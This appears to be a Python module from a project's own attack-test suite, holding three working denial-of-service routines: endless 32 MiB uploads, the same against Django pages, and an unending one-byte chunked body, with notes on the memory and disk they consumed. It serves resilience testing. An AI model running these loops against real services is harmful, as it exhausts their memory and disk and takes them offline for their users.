"""Bodies that are begun and never ended."""

from __future__ import annotations

import asyncio

from tests.attacks.registry import attack
from tests.attacks.target import Listener, Target
from tests.attacks.wire import GONE, connected, head

MIB = 1 << 20
LARGE_BYTES = 32 * MIB
UPLOADS = 4
"""At each path."""
PAUSE_SECONDS = 1.0
PATHS = {
    "main": ("/extender/filter", "/api/v1/simulations/"),
    "extender": ("/extender/filter",),
    "webhook": ("/webhooks/pods/mutate",),
}


@attack("unfinished-uploads", window="bodies")
async def unfinished_uploads(target: Target) -> None:
    """Bodies of 32 MiB at every listener of which the last byte never comes: 24 cost 700 MB, and stayed."""
    async with asyncio.TaskGroup() as tasks:
        for listener in target.listeners:
            for path in PATHS[listener.name]:
                for _ in range(UPLOADS):
                    kind = "admin" if path.startswith("/api/") else "service"
                    tasks.create_task(_upload(listener, path, target.tokens[kind]))


@attack("uploads-to-pages", window="bodies")
async def uploads_to_pages(target: Target) -> None:
    """The same to pages, where Django kept what came in files that filled the temporary folder."""
    async with asyncio.TaskGroup() as tasks:
        for number in range(UPLOADS):
            tasks.create_task(_upload(target.main, ("/nodes/", "/simulate/", "/accounts/login/")[number % 3], ""))


async def _upload(listener: Listener, path: str, token: str) -> None:
    headers = {"Content-Type": "application/json", "Content-Length": str(LARGE_BYTES)}
    if token:
        headers["Authorization"] = f"Bearer {token}"
    piece = b"[" * (256 * 1024)
    while True:
        try:
            async with connected(listener) as wire:
                wire.writer.write(head("POST", path, headers))
                for _ in range(LARGE_BYTES // len(piece) - 1):
                    wire.writer.write(piece)
                    await wire.writer.drain()
                    await asyncio.sleep(0.05)
                while not wire.reader.at_eof() and not wire.writer.is_closing():
                    wire.writer.write(b"[")
                    await wire.writer.drain()
                    await asyncio.sleep(1)
        except GONE:
            pass
        await asyncio.sleep(PAUSE_SECONDS)


@attack("tiny-chunks", window="bodies")
async def tiny_chunks(target: Target) -> None:
    """A chunked body of one byte a chunk, without end: six bytes on the wire cost more than a hundred others."""
    chunks = b"1\r\n[\r\n" * 8192
    while True:
        try:
            async with connected(target.extender) as wire:
                wire.writer.write(
                    head(
                        "POST", "/extender/filter", {"Content-Type": "application/json", "Transfer-Encoding": "chunked"}
                    )
                )
                while True:
                    wire.writer.write(chunks)
                    await wire.writer.drain()
        except GONE:
            pass
        await asyncio.sleep(PAUSE_SECONDS)
